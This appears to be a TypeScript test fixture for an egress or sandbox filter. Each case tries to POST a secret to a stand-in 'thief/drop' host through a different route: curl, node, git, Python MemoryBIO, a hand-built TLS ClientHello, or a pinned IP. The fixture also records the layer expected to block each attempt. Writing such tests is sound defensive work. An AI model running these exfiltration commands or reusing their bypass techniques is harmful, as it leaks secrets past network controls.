import type { Row } from '../case.ts'
import { curl, python } from './script.ts'

const by = 'content: the writing process is ended before the request is encrypted'
const twin = curl('"https://good.example.com/$T"')
const request = 'POST /thief/drop HTTP/1.1'

export const ownTls: Row = {
  row: 26,
  title: 'A TLS library of one’s own, towards a host with HTTPS rules',
  cases: [
    {
      id: 'rules-openssl',
      technique: 'libssl (curl)',
      attempt: curl('-X POST --data "$T" https://rules.example.com/thief/drop'),
      twin,
      by,
    },
    {
      id: 'rules-node',
      technique: 'OpenSSL inside of a program (node)',
      attempt: `timeout 10 node -e 'const r = require("https").request("https://rules.example.com/thief/drop", { method: "POST" }, () => {}); r.on("error", (e) => { console.log(e.code); process.exit(9) }); r.end(process.env.T)'`,
      twin: `timeout 10 node -e 'require("https").get("https://good.example.com/" + process.env.T, (r) => r.resume())'`,
      by,
    },
    {
      id: 'rules-gnutls',
      technique: 'GnuTLS (git)',
      attempt: 'GIT_TERMINAL_PROMPT=0 git ls-remote "https://rules.example.com/thief/$T.git"',
      twin: 'GIT_TERMINAL_PROMPT=0 git ls-remote "https://good.example.com/acme/$T.git"',
      by,
    },
    {
      id: 'rules-python',
      technique: 'OpenSSL in memory, apart from the socket (python, MemoryBIO)',
      attempt: python(`
host = 'rules.example.com' if T[2] == 'a' else 'good.example.com'
import ssl
context = ssl.create_default_context()
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = context.wrap_bio(incoming, outgoing, server_hostname=host)
s = made()
s.connect((host, 443))
def move(act):
    while True:
        try: done = act()
        except ssl.SSLWantReadError: done = None
        if data := outgoing.read(): s.sendall(data)
        if done is not None: return done
        incoming.write(s.recv(16384))
move(lambda: tls.do_handshake() or True)
move(lambda: tls.write(b'${request}\\r\\nHost: ' + host.encode() + b'\\r\\nContent-Length: 8\\r\\n\\r\\n' + DATA))
move(lambda: tls.read(100))`),
      by,
    },
    {
      id: 'rules-by-hand',
      technique: 'no library: a ClientHello and records written by hand',
      attempt: python(`
s = pieces((address_of('rules.example.com'), 443), hello('rules.example.com'))
s.sendall(b'\\x17\\x03\\x03\\0\\x08' + DATA)
time.sleep(0.5)
print(s.recv(100))`),
      twin,
      by: 'packet: behind the handshake nothing leaves that no decision covers',
    },
    {
      id: 'rules-address',
      technique: 'the host’s address without its name',
      attempt: curl(
        '-k -X POST --data "$T" --resolve rules.example.com:443:198.51.100.32 https://rules.example.com/thief/drop',
      ),
      twin,
      by: 'connect: `EPERM`; where the name has led there, content',
    },
  ],
}
